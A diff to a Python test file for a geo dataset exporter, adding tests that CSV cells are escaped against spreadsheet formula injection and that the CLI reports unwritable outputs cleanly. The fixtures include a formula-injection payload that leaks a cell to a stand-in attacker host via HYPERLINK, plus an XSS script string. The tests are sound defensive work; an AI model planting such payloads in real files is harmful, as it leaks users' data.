@@ -1,5 +1,7 @@
 """CSV/GeoJSON round trips through the loader, the datapackage, the citation, and the CLI."""
 
+import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
@@ -19,6 +21,7 @@ from geo.validate import CountryIndex, DATA_DIR
 import synthetic
 
 HOSTILE = '</script><script>alert(1)</script>${x}`'
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 
 
 def comparable(frame):
@@ -36,6 +39,10 @@ def rich_atlas(tmp_path):
     features = synthetic.deployments()
     features[0]["properties"]["sources"].append({**synthetic.source(2), "quote": 'He said "no; never", twice, ' + HOSTILE})
     features[1]["properties"]["description"] = "Line one,\nline two; with, commas"
+    features[2]["properties"]["name"] = FORMULA
+    features[2]["properties"]["operator"] = "'=already quoted"
+    features[3]["properties"]["description"] = "-2 cameras, +3 gates"
+    features[3]["properties"]["sources"][0]["title"] = "@SUM(A1:A9)"
     return load_atlas(synthetic.write_dataset(tmp_path / "data", features))
 
 
@@ -48,6 +55,21 @@ def test_exports_load_back_without_losing_a_field(rich_atlas, tmp_path, fmt):
     loaded, problems = read_deployments(path, set(rich_atlas.vendors["id"]), index)
     assert problems == []
     assert comparable(loaded) == comparable(rich_atlas.deployments)
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(rich_atlas):
+    rows = list(csv.reader(io.StringIO(to_csv(rich_atlas.deployments))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells and "''=already quoted" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not is_number(cell))]
+
+
+def is_number(text):
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
 
 
 def test_csv_is_readable(rich_atlas):
@@ -114,9 +136,18 @@ def test_cli_writes_what_the_app_would_for_the_same_filters(tmp_path, data_dir, 
     (["--from", "abc", "--csv", "x.csv"], "from='abc'"),
     (["--vendor", "acme"], "nothing to write"),
     (["--png-size", "10x10", "--png", "x.png"], "invalid choice"),
+    (["--csv", "/nonexistent-folder/x.csv"], "no such folder for the output: /nonexistent-folder"),
 ])
 def test_cli_bad_arguments_give_a_clear_message_and_exit_2(args, message, data_dir, capsys):
     with pytest.raises(SystemExit) as exit_info:
         snapshot.main(["--data-dir", str(data_dir), *args])
     assert exit_info.value.code == 2
     assert message in capsys.readouterr().err
+
+
+def test_cli_reports_an_output_it_cannot_write_without_a_traceback(tmp_path, data_dir, capsys):
+    (tmp_path / "taken").mkdir()  # a folder where the CSV should go
+    code = snapshot.main(["--data-dir", str(data_dir), "--csv", str(tmp_path / "taken")])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert err.startswith("error: could not write") and str(tmp_path / "taken") in err and "Traceback" not in err
